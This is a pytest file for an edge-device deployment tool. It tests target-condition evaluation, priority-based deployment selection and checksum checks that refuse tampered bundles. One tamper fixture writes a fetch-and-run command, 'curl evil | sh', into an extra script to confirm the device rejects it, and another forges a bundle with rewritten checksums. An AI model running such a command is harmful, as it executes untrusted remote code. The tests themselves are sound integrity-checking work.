"""What a device checks before running a bundle: every checksum (the file named when one fails),
target conditions against its tags, and which published deployment wins by priority."""

from __future__ import annotations

import io
import json
import tarfile

import pytest

from compiler.render.edge import edge_files
from compiler.targets.publish.bundles import FileBundles
from compiler.targets.publish.device import TamperedBundle, candidates, collected_routes, fetch, winner
from compiler.targets.publish.location import FileLocation
from compiler.targets.publish.target_condition import ConditionError, evaluate, parse_tag

TAGS = {"site": "factory-1", "camera": True, "floor": 2}


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("tags.site='factory-1'", True),
        ("tags.site = 'factory-2'", False),
        ("tags.site='factory-1' AND tags.camera=true", True),
        ("tags.site='factory-1' AND tags.debug=true", False),
        ("tags.debug=true OR tags.floor=2", True),
        ("NOT tags.camera=true", False),
        ("NOT (tags.site='x' OR tags.camera=false)", True),
        ("tags.site!='factory-2' and tags.floor<>3", True),
        ("tags.debug != true", True),  # a tag the device lacks equals nothing
        ("tags.camera='true'", False),  # a boolean tag is not the string 'true'
        ("(tags.site='factory-1' OR tags.site='factory-2') AND NOT tags.floor=1", True),
    ],
)
def test_target_conditions(condition, expected):
    assert evaluate(condition, TAGS) is expected


@pytest.mark.parametrize(
    ("condition", "message"),
    [
        ("tags.site=", "expected a value ('text', a number, true, false or null) at character 11"),
        ("tags.site='a' AND", "expected a tag (tags.NAME), NOT or '(' at character 18"),
        ("(tags.site='a'", "expected ')' at character 15"),
        ("site='a'", "expected a tag (tags.NAME)"),
        ("tags.site > 1", "unexpected '> 1' at character 11"),
    ],
)
def test_bad_conditions_say_where(condition, message):
    with pytest.raises(ConditionError, match=message.replace("(", r"\(").replace(")", r"\)")):
        evaluate(condition, TAGS)


def test_device_tags_from_the_command_line():
    assert [parse_tag(t) for t in ("site=factory-1", "camera=true", "floor=2", "ratio=0.5")] == [
        ("site", "factory-1"),
        ("camera", True),
        ("floor", 2),
        ("ratio", 0.5),
    ]
    with pytest.raises(ConditionError, match="use NAME=VALUE"):
        parse_tag("site")


def _manifest(name: str, priority: int, condition: str, layered: bool = False) -> dict:
    agent = {f"properties.desired.modules.{name}": {}} if layered else {"properties.desired": {"modules": {}}}
    hub = (
        {}
        if layered
        else {"properties.desired": {"routes": {"up": f"FROM /messages/modules/{name}/outputs/* INTO $upstream"}}}
    )
    content = {"modulesContent": {"$edgeAgent": agent, "$edgeHub": hub}}
    return {"id": f"{name}-0123abcd", "priority": priority, "targetCondition": condition, "content": content}


def _publish(store: FileBundles, tmp_path, name: str, manifest: dict, when: str) -> None:  # noqa: ANN001
    src = tmp_path / f"src-{name}"
    src.mkdir()
    for rel, data in edge_files(manifest).items():
        (src / rel).write_bytes(data)
    marker = {"managedBy": "modelctl", "workspace": "team", "resource": f"Deployment/{name}", "target": "factory"}
    store.put(name, src, {**marker, "publishedAt": when})


@pytest.fixture
def store(tmp_path):
    store = FileBundles(FileLocation(tmp_path / "pub"), "team")
    _publish(store, tmp_path, "cam", _manifest("cam", 10, "tags.site='factory-1'"), "2026-01-01T00:00:00+00:00")
    _publish(store, tmp_path, "cam-new", _manifest("cam-new", 10, "tags.camera=true"), "2026-01-02T00:00:00+00:00")
    _publish(store, tmp_path, "old", _manifest("old", 5, "tags.site='factory-1'"), "2026-01-03T00:00:00+00:00")
    _publish(store, tmp_path, "dbg", _manifest("dbg", 20, "tags.debug=true", layered=True), "2026-01-01T00:00:00+00:00")
    return store


def test_the_highest_priority_wins_and_a_tie_goes_to_the_newest(store):
    found = candidates(store, "factory", TAGS)
    assert {c.name: c.matches for c in found} == {"cam": True, "cam-new": True, "old": True, "dbg": False}
    assert winner(found).name == "cam-new"  # 10 = 10: published later
    assert winner(candidates(store, "factory", {"site": "factory-1"})).name == "cam"
    assert winner(candidates(store, "factory", {"site": "elsewhere"})) is None


def test_a_verified_bundle_and_its_collected_routes(store):
    [bundle] = [b for b in store.list() if b.name == "cam"]
    fetched = fetch(store, bundle)
    assert fetched.manifest["id"] == "cam-0123abcd"
    assert collected_routes(fetched.manifest, "cam") == {"up": "FROM /messages/modules/cam/outputs/* INTO $upstream"}
    assert collected_routes(fetched.manifest, "other") == {}


def _tar(members: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ("flip-bundle", "cam/bundle.tar.gz does not match its checksum"),
        ("flip-manifest", "cam/deployment.json does not match its checksum"),
        ("extra-file", "cam/extra.sh is not one of the files published"),
        ("remove-manifest", "cam/deployment.json is missing"),
        ("rewritten-consistently", "cam/bundle.tar.gz and"),
    ],
)
def test_a_changed_bundle_is_refused_naming_the_file(store, change, message):
    [bundle] = [b for b in store.list() if b.name == "cam"]
    folder = store.folder / "cam"
    if change == "flip-bundle":
        data = bytearray((folder / "bundle.tar.gz").read_bytes())
        data[40] ^= 1
        (folder / "bundle.tar.gz").write_bytes(bytes(data))
    elif change == "flip-manifest":
        text = (folder / "deployment.json").read_text()
        (folder / "deployment.json").write_text(text.replace('"priority": 10', '"priority": 99'))
    elif change == "extra-file":
        (folder / "extra.sh").write_text("curl evil | sh")
    elif change == "remove-manifest":
        (folder / "deployment.json").unlink()
    else:  # someone rewrote bundle.tar.gz and fixed every outer checksum: the inner copy still differs
        other = json.dumps({"id": "evil"}).encode()
        import hashlib

        inner_sums = f"{hashlib.sha256(other).hexdigest()}  deployment.json\n".encode()
        tar = _tar({"deployment.json": other, "SHA256SUMS": inner_sums})
        (folder / "bundle.tar.gz").write_bytes(tar)
        marker = json.loads((folder / "modelctl.json").read_text())
        marker["files"]["bundle.tar.gz"] = "sha256:" + hashlib.sha256(tar).hexdigest()
        sums = (folder / "SHA256SUMS").read_text().splitlines()
        sums = [f"{hashlib.sha256(tar).hexdigest()}  bundle.tar.gz" if s.endswith("bundle.tar.gz") else s for s in sums]
        (folder / "SHA256SUMS").write_text("\n".join(sums) + "\n")
        marker["files"]["SHA256SUMS"] = "sha256:" + hashlib.sha256((folder / "SHA256SUMS").read_bytes()).hexdigest()
        (folder / "modelctl.json").write_text(json.dumps(marker))
        [bundle] = [b for b in store.list() if b.name == "cam"]
    with pytest.raises(TamperedBundle, match="refusing the bundle") as err:
        fetch(store, bundle)
    assert message in str(err.value)
